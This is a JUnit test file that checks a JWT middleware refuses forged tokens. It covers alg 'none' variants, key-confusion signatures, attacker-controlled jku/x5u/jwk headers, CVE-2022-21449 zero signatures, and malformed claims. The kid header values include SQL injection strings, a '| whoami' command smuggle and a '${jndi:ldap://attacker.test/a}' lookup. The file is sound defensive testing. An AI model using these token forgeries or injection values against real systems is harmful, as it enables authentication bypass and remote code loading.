package com.openhwy.marketeer.middleware.jwt;

import static org.assertj.core.api.Assertions.assertThat;

import com.openhwy.marketeer.http.FakeExchange;
import com.openhwy.marketeer.http.Middleware;
import com.openhwy.marketeer.middleware.Configured;
import com.openhwy.marketeer.middleware.Loops;
import java.nio.charset.StandardCharsets;
import java.security.PublicKey;
import java.security.interfaces.ECPublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens that have opened doors elsewhere, and kin of theirs. None opens this one. */
class AttackTest {
  private static final List<String> ALGORITHMS =
      List.of(
          "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256",
          "ES384", "ES512", "EdDSA");

  /** 2023-11-14T22:13:15Z, by the clock of {@link Loops}. */
  private static final long NOW = 1_699_999_995L;

  private static final String GOOD =
      "{\"sub\":\"ann\",\"iss\":\"torii\",\"aud\":\"api\",\"exp\":" + (NOW + 600) + "}";
  private static final String ADMIN = GOOD.replace("ann", "admin");

  private static Middleware door(String algorithm) {
    Issuer issuer = Issuer.of(algorithm);
    return doorBy(
        "{algorithm: "
            + algorithm
            + ", issuer: torii, audience: api, "
            + issuer.keySetting()
            + "}");
  }

  private static Middleware doorBy(String yaml) {
    return Configured.instance(
        Configured.define(new JwtFactory(), "door", yaml), new Loops().loop(0));
  }

  private static FakeExchange knock(Middleware door, String token) {
    return FakeExchange.get("/").header("Authorization", "Bearer " + token).through(door).run("in");
  }

  private static void assertRefused(Middleware door, String token) {
    FakeExchange x = knock(door, token);
    assertThat(x.status()).as("status for %s", token).isEqualTo(401);
    assertThat(x.field("WWW-Authenticate"))
        .startsWith("Bearer realm=\"door\", error=\"invalid_token\", error_description=\"");
    assertThat(x.exchange().principal()).isNull();
    assertThat(x.text()).isEqualTo("unauthorized");
  }

  @TestFactory
  Stream<DynamicTest> everyAlgorithmTakesItsOwnAndNothingForged() {
    return ALGORITHMS.stream()
        .map(
            algorithm ->
                DynamicTest.dynamicTest(
                    algorithm,
                    () -> {
                      Middleware door = door(algorithm);
                      String good = Issuer.of(algorithm).token(GOOD);
                      assertThat(knock(door, good).status()).isEqualTo(200);
                      Map<String, String> forged = forged(algorithm, good);
                      assertThat(forged).hasSizeGreaterThan(60);
                      forged.forEach((name, token) -> assertRefused(door, token));
                      assertThat(knock(door, good).status()).isEqualTo(200);
                    }));
  }

  /** By the name of the trick. */
  private static Map<String, String> forged(String algorithm, String good) {
    Map<String, String> all = new LinkedHashMap<>();
    withoutSignature(all, good);
    otherSignatures(all, algorithm, good);
    otherAlgorithms(all, algorithm);
    ownKeys(all, algorithm);
    extensions(all, algorithm);
    spellings(all, good);
    claims(all, algorithm);
    return all;
  }

  private static void withoutSignature(Map<String, String> all, String good) {
    String claims = Issuer.part(ADMIN);
    for (String none :
        List.of("none", "None", "NONE", "nOnE", " none", "none ", "null", "", "none\\u0000")) {
      String header = Issuer.part("{\"alg\":\"" + none + "\",\"typ\":\"JWT\"}");
      all.put("alg '" + none + "', empty signature", header + "." + claims + ".");
      all.put("alg '" + none + "', some signature", header + "." + claims + ".AAAA");
      all.put("alg '" + none + "', two parts", header + "." + claims);
    }
    for (String alg : List.of("null", "0", "true", "[]", "{}", "[\"none\"]")) {
      all.put("alg is " + alg, Issuer.part("{\"alg\":" + alg + "}") + "." + claims + "." + "AAAA");
    }
    all.put("no alg", Issuer.part("{\"typ\":\"JWT\"}") + "." + claims + ".AAAA");
    String unsigned = good.substring(0, good.lastIndexOf('.'));
    all.put("empty signature", unsigned + ".");
    all.put("no signature", unsigned);
    all.put("a dot too many", good + ".");
    all.put("two dots too many", good + "..");
    all.put("only dots", "..");
    all.put("nothing but a word", "token");
  }

  private static void otherSignatures(Map<String, String> all, String algorithm, String good) {
    String[] parts = good.split("\\.", -1);
    byte[] signature = Base64.getUrlDecoder().decode(parts[2]);
    String unsigned = parts[0] + "." + parts[1] + ".";
    all.put("claims changed", parts[0] + "." + Issuer.part(ADMIN) + "." + parts[2]);
    for (int cut : List.of(1, 2, signature.length / 2, signature.length - 1)) {
      byte[] shorter = Arrays.copyOf(signature, signature.length - cut);
      all.put("signature shorter by " + cut, unsigned + Issuer.encoded(shorter));
    }
    all.put("signature longer", unsigned + Issuer.encoded(Arrays.copyOf(signature, 600)));
    byte[] flipped = signature.clone();
    flipped[flipped.length - 1] ^= 1;
    all.put("a bit flipped", unsigned + Issuer.encoded(flipped));
    all.put("zeros", unsigned + Issuer.encoded(new byte[signature.length]));
    byte[] ones = new byte[signature.length];
    Arrays.fill(ones, (byte) 0xff);
    all.put("ones", unsigned + Issuer.encoded(ones));
    String other = Issuer.of(algorithm).token(GOOD.replace("ann", "bob"));
    all.put("signature of another token", unsigned + other.substring(other.lastIndexOf('.') + 1));
    if (!algorithm.startsWith("HS")) {
      all.put("signed by a stranger", Issuer.stranger(algorithm).token(ADMIN));
    }
  }

  private static void otherAlgorithms(Map<String, String> all, String algorithm) {
    PublicKey key = Issuer.of(algorithm).publicKey();
    for (String hmac : List.of("HS256", "HS384", "HS512")) {
      String unsigned = Issuer.part("{\"alg\":\"" + hmac + "\"}") + "." + Issuer.part(ADMIN);
      byte[] octets = unsigned.getBytes(StandardCharsets.UTF_8);
      if (key != null) {
        String pem = Issuer.pem(key);
        List<byte[]> secrets =
            List.of(
                pem.getBytes(StandardCharsets.UTF_8),
                pem.strip().getBytes(StandardCharsets.UTF_8),
                key.getEncoded());
        for (int i = 0; i < secrets.size(); i++) {
          all.put(
              "public key as the secret of " + hmac + ", spelling " + i,
              unsigned + "." + Issuer.encoded(Issuer.mac(hmac, secrets.get(i), octets)));
        }
      }
      all.put(
          "an empty secret, almost, with " + hmac,
          unsigned + "." + Issuer.encoded(Issuer.mac(hmac, new byte[] {0}, octets)));
    }
    for (String other : ALGORITHMS) {
      if (!other.equals(algorithm)) {
        all.put("signed with " + other, Issuer.of(other).token(ADMIN));
        all.put("named " + other, Issuer.of(algorithm).token("{\"alg\":\"" + other + "\"}", ADMIN));
        all.put(
            "signed with " + other + " by that name",
            Issuer.of(other).token("{\"alg\":\"" + algorithm + "\"}", ADMIN));
      }
    }
    all.put(
        "alg in lower case",
        Issuer.of(algorithm)
            .token("{\"alg\":\"" + algorithm.toLowerCase(java.util.Locale.ROOT) + "\"}", ADMIN));
  }

  /** CVE-2018-0114 and its kin: the token says which key is right. */
  private static void ownKeys(Map<String, String> all, String algorithm) {
    Issuer attacker = Issuer.stranger(algorithm.startsWith("HS") ? "RS256" : algorithm);
    Issuer signer = algorithm.startsWith("HS") ? attacker.as("RS256") : attacker;
    String alg = "{\"alg\":\"" + algorithm + "\"";
    String url = "https://attacker.test/keys.json";
    Map<String, String> headers = new LinkedHashMap<>();
    headers.put("embedded jwk", ",\"jwk\":" + attacker.jwk("mine", ""));
    headers.put("jku", ",\"jku\":\"" + url + "\"");
    headers.put("jku on this machine", ",\"jku\":\"http://127.0.0.1/keys.json\"");
    headers.put("x5u", ",\"x5u\":\"" + url + "\"");
    headers.put("x5c", ",\"x5c\":[\"" + Issuer.encoded(attacker.publicKey().getEncoded()) + "\"]");
    for (String kid :
        List.of(
            "../../../../../../dev/null",
            "/dev/null",
            "file:///dev/null",
            "' UNION SELECT 'secret' --",
            "x' OR '1'='1",
            "| whoami",
            "${jndi:ldap://attacker.test/a}",
            "\\u0000",
            "")) {
      headers.put("kid " + kid, ",\"kid\":\"" + kid + "\"");
    }
    headers.forEach((name, more) -> all.put(name, signer.token(alg + more + "}", ADMIN)));
    for (String kid : List.of("1", "true", "[\"a\"]", "{\"a\":1}")) {
      all.put("kid is " + kid, Issuer.of(algorithm).token(alg + ",\"kid\":" + kid + "}", ADMIN));
    }
  }

  /** Signed well: only that they ask for something is wrong. */
  private static void extensions(Map<String, String> all, String algorithm) {
    Issuer issuer = Issuer.of(algorithm);
    String alg = "{\"alg\":\"" + algorithm + "\"";
    for (String more :
        List.of(
            ",\"crit\":[\"exp\"],\"exp\":1",
            ",\"crit\":[\"x-own\"],\"x-own\":true",
            ",\"crit\":[]",
            ",\"crit\":\"b64\"",
            ",\"crit\":[\"b64\"],\"b64\":false",
            ",\"b64\":false",
            ",\"b64\":true",
            ",\"alg\":\"none\"",
            ",\"alg\":\"" + algorithm + "\"",
            ",\"typ\":\"a\",\"typ\":\"b\"",
            ",\"kid\":\"a\",\"kid\":\"b\"",
            ",\"\\u0061lg\":\"none\"")) {
      all.put("header " + more, issuer.token(alg + more + "}", GOOD));
    }
    all.put("two headers", issuer.token(alg + "}{}", GOOD));
    all.put("a header that is a list", issuer.token("[" + alg + "}]", GOOD));
    all.put("a header in UTF-16", utf16(issuer, alg + "}"));
    all.put("five parts", "a.b.c.d.e");
    String jwe = Issuer.part("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}");
    all.put("encrypted", jwe + "..AAAA.AAAA.AAAA");
  }

  private static String utf16(Issuer issuer, String header) {
    String unsigned =
        Issuer.encoded(header.getBytes(StandardCharsets.UTF_16)) + "." + Issuer.part(GOOD);
    return unsigned + "." + Issuer.encoded(issuer.sign(unsigned));
  }

  /** Texts that lenient readers take for the good one, and so pass by whoever compares texts. */
  private static void spellings(Map<String, String> all, String good) {
    String[] parts = good.split("\\.", -1);
    all.put("padding", good + "=");
    all.put("padding, percent-encoded", good + "%3D");
    all.put("padding inside", parts[0] + "=." + parts[1] + "." + parts[2]);
    all.put("a space inside", parts[0] + " ." + parts[1] + "." + parts[2]);
    all.put("a space in the signature", good.substring(0, good.length() - 4) + " " + "AAAA");
    all.put("an exclamation mark", good + "!");
    all.put("a letter beyond ASCII", good + "\u00e9");
    all.put("two tokens with a comma", good + "," + good);
    all.put("in quotes", "\"" + good + "\"");
    all.put("a scheme twice", "Bearer " + good);
    if (parts[2].length() % 4 != 0) {
      char last = good.charAt(good.length() - 1);
      String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
      char next = alphabet.charAt(alphabet.indexOf(last) + 1);
      all.put("bits left over", good.substring(0, good.length() - 1) + next);
    }
  }

  /** Signed well: what they claim is wrong. */
  private static void claims(Map<String, String> all, String algorithm) {
    Issuer issuer = Issuer.of(algorithm);
    String exp = "\"exp\":" + (NOW + 600);
    for (String other :
        List.of(
            "\"x\":1",
            "\"exp\":" + NOW,
            "\"exp\":" + (NOW - 1),
            "\"exp\":0",
            "\"exp\":-1",
            "\"exp\":-9223372036854775808",
            "\"exp\":9223372036854775807",
            "\"exp\":9223372036854775808",
            "\"exp\":1e400",
            "\"exp\":1e30",
            "\"exp\":\"" + (NOW + 600) + "\"",
            "\"exp\":null",
            "\"exp\":true",
            "\"exp\":[" + (NOW + 600) + "]",
            "\"exp\":{}",
            "\"exp\":" + (NOW - 1) + "," + exp,
            exp + ",\"exp\":1",
            exp + ",\"sub\":\"admin\"",
            exp + ",\"a\":{\"b\":1,\"b\":2}",
            exp + ",\"nbf\":" + (NOW + 60),
            exp + ",\"nbf\":\"1\"",
            exp + ",\"iat\":" + (NOW + 60),
            exp + ",\"iat\":\"1\"",
            exp + ",\"deep\":" + "[".repeat(2000) + "]".repeat(2000))) {
      all.put("claims " + shortened(other), issuer.token(GOOD.replace(exp, other)));
    }
    for (String wrong : List.of("\"other\"", "1", "[\"torii\"]", "null", "\"\"", "\"Torii\"")) {
      all.put("iss " + wrong, issuer.token(GOOD.replace("\"torii\"", wrong)));
    }
    for (String wrong :
        List.of("\"other\"", "1", "[]", "[[\"api\"]]", "{\"api\":1}", "\"api,b\"")) {
      all.put("aud " + wrong, issuer.token(GOOD.replace("\"api\"", wrong)));
    }
    all.put("claims that are a list", issuer.token("[" + GOOD + "]"));
    all.put("claims twice", issuer.token(GOOD + GOOD));
    all.put("claims that are a text", issuer.token("\"" + "admin" + "\""));
    all.put("sub is a number", issuer.token(GOOD.replace("\"ann\"", "7")));
    all.put("sub is empty", issuer.token(GOOD.replace("ann", "")));
    all.put("too large", issuer.token(GOOD.replace("ann", "a".repeat(17_000))));
  }

  private static String shortened(String text) {
    return text.length() > 80 ? text.substring(0, 80) : text;
  }

  /** CVE-2022-21449, and values that are 0 or 1 only after the order is taken off. */
  @Test
  void psychicSignaturesAreNone() {
    for (String algorithm : List.of("ES256", "ES384", "ES512")) {
      ECPublicKey key = (ECPublicKey) Issuer.of(algorithm).publicKey();
      byte[] order = key.getParams().getOrder().toByteArray();
      int half = (key.getParams().getOrder().bitLength() + 7) / 8;
      byte[] n = Arrays.copyOfRange(order, order.length - half, order.length);
      byte[] zero = new byte[half];
      byte[] one = new byte[half];
      one[half - 1] = 1;
      String unsigned =
          Issuer.part("{\"alg\":\"" + algorithm + "\"}") + "." + Issuer.part(ADMIN) + ".";
      Middleware door = door(algorithm);
      for (byte[] r : List.of(zero, one, n)) {
        for (byte[] s : List.of(zero, one, n)) {
          byte[] both = Arrays.copyOf(r, 2 * half);
          System.arraycopy(s, 0, both, half, half);
          assertRefused(door, unsigned + Issuer.encoded(both));
        }
      }
    }
  }

  /** A right signature in the form of X.509 is not one of JOSE. */
  @Test
  void ellipticSignaturesInDerAreNone() {
    for (String bits : List.of("256", "384", "512")) {
      Issuer issuer = Issuer.of("ES" + bits);
      String unsigned = Issuer.part("{\"alg\":\"ES" + bits + "\"}") + "." + Issuer.part(GOOD);
      byte[] der =
          issuer.sign(unsigned.getBytes(StandardCharsets.UTF_8), "SHA" + bits + "withECDSA");
      assertRefused(door("ES" + bits), unsigned + "." + Issuer.encoded(der));
    }
  }

  /** With two algorithms for one key each token is verified with the one it was signed with. */
  @Test
  void severalAlgorithmsDoNotMix() {
    Issuer issuer = Issuer.of("RS256");
    Middleware door = doorBy("{algorithms: [RS256, PS512], " + issuer.keySetting() + "}");
    assertThat(knock(door, issuer.token(GOOD)).status()).isEqualTo(200);
    assertThat(knock(door, issuer.as("PS512").token(GOOD)).status()).isEqualTo(200);
    assertRefused(door, issuer.as("RS512").token(GOOD));
    assertRefused(door, issuer.token("{\"alg\":\"PS512\"}", GOOD));
    assertRefused(door, issuer.as("PS512").token("{\"alg\":\"RS256\"}", GOOD));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"alg\":\"ES256\"}",
        "{\"alg\":\"ES256\",\"typ\":\"at+jwt\"}",
        "{\"alg\":\"ES256\",\"typ\":\"anything\"}",
        "{\"alg\":\"ES256\",\"typ\":7}",
        "{\"typ\":\"JWT\",\"cty\":\"x\",\"alg\":\"ES256\",\"kid\":\"whatever\"}",
        " {\"alg\" : \"ES256\"} ",
        "{\"alg\":\"ES256\",\"jku\":\"https://attacker.test/\",\"x5u\":\"https://attacker.test/\"}",
      })
  void whatIsNotLookedAtDoesNoHarm(String header) {
    assertThat(knock(door("ES256"), Issuer.of("ES256").token(header, GOOD)).status())
        .isEqualTo(200);
  }

  @Test
  void ed448IsTakenToo() {
    Issuer issuer = Issuer.of("Ed448");
    Middleware door = doorBy("{algorithm: EdDSA, " + issuer.keySetting() + "}");
    String token = issuer.token("{\"alg\":\"EdDSA\"}", GOOD);
    assertThat(knock(door, token).status()).isEqualTo(200);
    assertRefused(door, Issuer.of("EdDSA").token(GOOD));
  }
}
